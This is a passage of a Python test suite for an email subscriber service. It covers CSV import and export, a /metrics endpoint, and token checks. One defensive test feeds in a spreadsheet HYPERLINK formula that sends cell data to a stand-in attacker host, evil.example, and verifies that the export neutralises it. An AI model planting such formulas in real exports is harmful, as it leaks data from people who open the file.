                "Imported as already consenting, on the operator's word: webinar list"
            )
            assert (consent.source, consent.consent_version) == ("import", "import")
        # No confirmation email is queued for people vouched for.
        assert session.scalar(text("SELECT COUNT(*) FROM deliveries")) == 0


def test_ten_thousand_rows_and_export_round_trip(stack, tmp_path):
    settings = stack.settings
    emails = [f"person{i:05d}@example.com" for i in range(10_000)]
    data = (
        "email,first_name,timezone\n" + "".join(f"{e},P{i},UTC\n" for i, e in enumerate(emails))
    ).encode()

    started = clock.monotonic()
    with session_scope(settings.database_url) as session:
        report = import_subscribers(
            session, settings, sequences(settings), data, now=utcnow(), sequence=SEQUENCE
        )
    elapsed = clock.monotonic() - started
    assert report.imported == 10_000 and report.skipped == []
    assert elapsed < 120, elapsed
    with session_scope(settings.database_url) as session:
        assert session.scalar(select(func.count()).select_from(Subscriber)) == 10_000

    out = tmp_path / "export.csv"
    exported = run_cli(stack, "export", str(out))
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.DictReader(out.open(newline="")))
    assert [row["email"] for row in rows] == emails
    assert {row["sequences"] for row in rows} == {SEQUENCE}


def test_admin_export_csv(stack, app):
    settings = stack.settings
    with session_scope(settings.database_url) as session:
        import_subscribers(
            session,
            settings,
            sequences(settings),
            b"email,first_name\nann@example.com,Ann\nbob@example.com,Bob\n",
            now=utcnow(),
        )
    admin = signed_in(app, settings, "admin")
    response = admin.get("/admin/subscribers/export.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(page(response))))
    assert [(r["email"], r["first_name"]) for r in rows] == [
        ("ann@example.com", "Ann"),
        ("bob@example.com", "Bob"),
    ]


def test_admin_export_csv_defuses_formulas(stack, app):
    """A cell a spreadsheet would run as a formula starts with an apostrophe (OWASP)."""
    settings = stack.settings
    formula = '=HYPERLINK("http://evil.example/?d="&A2,"Click")'
    people = [
        ("a@example.com", formula),
        ("-b@example.com", "+1 guy"),
        ("c@example.com", "-minus"),
        ("d@example.com", "@mention"),
        ("e@example.com", "Ann = Bob"),
    ]
    file = io.StringIO()
    csv.writer(file).writerows([("email", "first_name"), *people])
    with session_scope(settings.database_url) as session:
        report = import_subscribers(
            session, settings, sequences(settings), file.getvalue().encode(), now=utcnow()
        )
    assert report.imported == len(people), report.lines()
    admin = signed_in(app, settings, "admin")

    rows = list(csv.DictReader(io.StringIO(page(admin.get("/admin/subscribers/export.csv")))))

    assert [(r["email"], r["first_name"]) for r in rows] == [
        ("a@example.com", "'" + formula),
        ("'-b@example.com", "'+1 guy"),
        ("c@example.com", "'-minus"),
        ("d@example.com", "'@mention"),
        ("e@example.com", "Ann = Bob"),
    ]
    assert all(r["timezone"] == "UTC" and r["status"] == "pending" for r in rows)


# --- 5. /metrics ---------------------------------------------------------------------


def metric(body: str, name: str) -> float:
    match = re.search(rf"^{name}(?:_total)? ([0-9.e+-]+)$", body, re.M)
    assert match, f"{name} missing from:\n{body}"
    return float(match.group(1))


def test_metrics(stack, smtp, client):
    settings = stack.settings
    subscriber_id = sign_up(settings, "ann@example.com", T0)
    sign_up(settings, "bob@example.com", T0)
    deliver(settings, T0)  # the two confirmation emails
    confirm_at(settings, subscriber_id, T0)  # the welcome is due at T0: overdue now

    overdue = (datetime.now(UTC) - T0).total_seconds()  # the welcome was due at T0
    body = client.get("/metrics")
    assert body.status_code == 200
    assert body.mimetype == "text/plain"
    text_ = page(body)
    assert re.search(r"^# TYPE nurture_signups(_total)? counter$", text_, re.M)
    assert metric(text_, "nurture_signups") == 2
    assert metric(text_, "nurture_emails_sent") == 2
    assert overdue - 1 <= metric(text_, "nurture_due_lag_seconds") <= overdue + 60
    assert metric(text_, "nurture_dispatch_age_seconds") == -1

    celery = tasks.make_celery(settings)
    tasks.prepare_broker(celery)
    tasks.run_dispatch(celery)
    text_ = page(client.get("/metrics"))
    assert metric(text_, "nurture_dispatch_duration_seconds") > 0
    assert 0 <= metric(text_, "nurture_dispatch_age_seconds") < 60
    assert metric(text_, "nurture_emails_queued") == 1


def test_metrics_show_emails_held_back_by_a_dead_smtp_server(stack, smtp, client):
    """While the SMTP server is down each email is put back for a later try, so the
    due lag shows it late: these two gauges show it at once. One recipient's
    server deferring an email (greylisting, a full mailbox) is no outage and
    is not counted."""
    settings = stack.settings
    sign_up(settings, "ann@example.com", T0)
    sign_up(settings, "bob@example.com", T0 + timedelta(minutes=1))
    smtp.handler.refuse_recipients_with = "451 4.7.1 Greylisted, try again later"
    assert deliver(settings, T0 + timedelta(minutes=1)).retry == 2
    text_ = page(client.get("/metrics"))
    assert metric(text_, "nurture_emails_waiting_for_smtp") == 0
    assert metric(text_, "nurture_smtp_wait_seconds") == 0

    dead = stack.with_env(SMTP_URL=f"smtp://127.0.0.1:{free_port()}?timeout=2").settings
    assert deliver(dead, T0 + timedelta(hours=1)).retry == 2
    waited = (datetime.now(UTC) - T0).total_seconds()  # the first was written at T0

    text_ = page(client.get("/metrics"))
    assert metric(text_, "nurture_emails_waiting_for_smtp") == 2
    assert waited - 1 <= metric(text_, "nurture_smtp_wait_seconds") <= waited + 60

    smtp.handler.refuse_recipients_with = None  # the server is back, and takes them
    assert deliver(settings, T0 + timedelta(hours=2)).sent == 2
    text_ = page(client.get("/metrics"))
    assert metric(text_, "nurture_emails_waiting_for_smtp") == 0
    assert metric(text_, "nurture_smtp_wait_seconds") == 0


def test_metrics_token(stack):
    client = create_app(stack.with_env(METRICS_TOKEN="scrape-me").settings).test_client()
    assert client.get("/metrics").status_code == 401
    assert client.get("/metrics", headers={"Authorization": "Bearer wrong"}).status_code == 401
    ok = client.get("/metrics", headers={"Authorization": "Bearer scrape-me"})
    assert ok.status_code == 200
    assert "nurture_signups" in page(ok)


def test_a_secret_with_characters_beyond_ascii_is_refused_not_a_500(stack, caplog):
    """`hmac.compare_digest` raises TypeError for a non-ASCII str: a forged
    Authorization or signature header must get a 401, not a logged 500."""
    settings = stack.with_env(METRICS_TOKEN="scrape-me", WEBHOOK_SECRET="s3cret").settings
    client = create_app(settings).test_client()

    metrics = client.get("/metrics", headers={"Authorization": "Bearer scrape-m\u00e9"})
    webhook = client.post(
        "/api/v1/conversions",
        data=b'{"email": "ann@example.com"}',
        headers={"X-Nurture-Signature": "sha256=\u00e9", "Content-Type": "application/json"},
    )

    assert metrics.status_code == 401
    assert webhook.status_code == 401
    assert not [r for r in caplog.records if r.levelname == "ERROR"]
